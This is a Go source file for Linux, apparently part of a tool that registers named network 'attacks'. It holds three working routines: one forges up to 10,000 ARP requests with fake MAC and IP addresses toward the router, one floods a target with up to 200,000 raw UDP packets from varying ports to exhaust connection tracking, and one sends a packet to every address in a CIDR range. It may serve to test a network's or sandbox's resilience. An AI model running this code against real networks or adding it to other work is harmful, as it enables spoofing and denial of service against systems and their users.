//go:build linux

package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"strconv"

	"golang.org/x/sys/unix"
)

func init() {
	attacks["arp"] = attack{"N: tell the router by ARP that we are N other machines", forgeARP}
	attacks["flows"] = attack{"ADDR PORT N: begin N connections, by one UDP packet each", floodFlows}
	attacks["scan"] = attack{"CIDR: send a packet to each address of a range", scan}
}

// forgeARP asks for the router's address in the name of others.
func forgeARP(args []string) error {
	n, err := bounded(args, 0, 10000)
	if err != nil {
		return err
	}
	i, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	own, err := ownAddr(i)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	router := own.Masked().Addr().Next()
	for k := range n {
		other := append(net.HardwareAddr{}, i.HardwareAddr...)
		binary.BigEndian.PutUint16(other[4:], uint16(k))
		from := own.Masked().Addr().As4()
		binary.BigEndian.PutUint16(from[2:], uint16(0x8000+k))
		if err := unix.Sendto(fd, arpRequest(other, from, router.As4()), 0, &unix.SockaddrLinklayer{Ifindex: i.Index}); err != nil {
			return err
		}
	}
	fmt.Printf("sent %d\n", n)
	return nil
}

// arpRequest is a broadcast (RFC 826).
func arpRequest(mac net.HardwareAddr, from, to [4]byte) []byte {
	f := append([]byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, mac...)
	f = append(f, 8, 6, 0, 1, 8, 0, 6, 4, 0, 1)
	f = append(append(f, mac...), from[:]...)
	return append(append(f, make([]byte, 6)...), to[:]...)
}

// floodFlows sends from other ports each time.
func floodFlows(args []string) error {
	n, err := bounded(args, 2, 200000)
	if err != nil {
		return err
	}
	port, err := bounded(args, 1, 65000)
	if err != nil {
		return err
	}
	to, err := netip.ParseAddr(args[0])
	if err != nil || !to.Is4() {
		return fmt.Errorf("%q is not an IPv4 address", args[0])
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_UDP)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	p := []byte{0, 0, 0, 0, 0, 9, 0, 0, 'x'} // no checksum
	for k := range n {
		binary.BigEndian.PutUint16(p, uint16(1024+k%60000))
		binary.BigEndian.PutUint16(p[2:], uint16(port+k/60000))
		// What a full queue or a rule refuses is part of the attack.
		if err := unix.Sendto(fd, p, 0, &unix.SockaddrInet4{Addr: to.As4()}); err != nil && err != unix.EPERM && err != unix.ENOBUFS {
			return err
		}
	}
	fmt.Printf("sent %d\n", n)
	return nil
}

func scan(args []string) error {
	if len(args) != 1 {
		return fmt.Errorf("scan takes a CIDR block")
	}
	p, err := netip.ParsePrefix(args[0])
	if err != nil || !p.Addr().Is4() || p.Bits() < 16 {
		return fmt.Errorf("%q is not a CIDR block of at most a /16", args[0])
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	n := 0
	for _, flags := range []int{0, unix.MSG_DONTROUTE} { // by the way that there is, and as if all were neighbours
		for a := p.Masked().Addr(); p.Contains(a); a = a.Next() {
			if unix.Sendto(fd, []byte("x"), flags, &unix.SockaddrInet4{Port: 9, Addr: a.As4()}) == nil {
				n++
			}
		}
	}
	fmt.Printf("sent %d\n", n)
	return nil
}

// bounded reads a number that is the argument at i.
func bounded(args []string, i, most int) (int, error) {
	if len(args) <= i {
		return 0, fmt.Errorf("how many?")
	}
	n, err := strconv.Atoi(args[i])
	if err != nil || n < 1 || n > most {
		return 0, fmt.Errorf("%q is not a number from 1 to %d", args[i], most)
	}
	return n, nil
}

// ownAddr is the interface's IPv4 address with its subnet.
func ownAddr(i *net.Interface) (netip.Prefix, error) {
	addrs, err := i.Addrs()
	if err != nil {
		return netip.Prefix{}, err
	}
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
			return p, nil
		}
	}
	return netip.Prefix{}, fmt.Errorf("%s has no IPv4 address", i.Name)
}
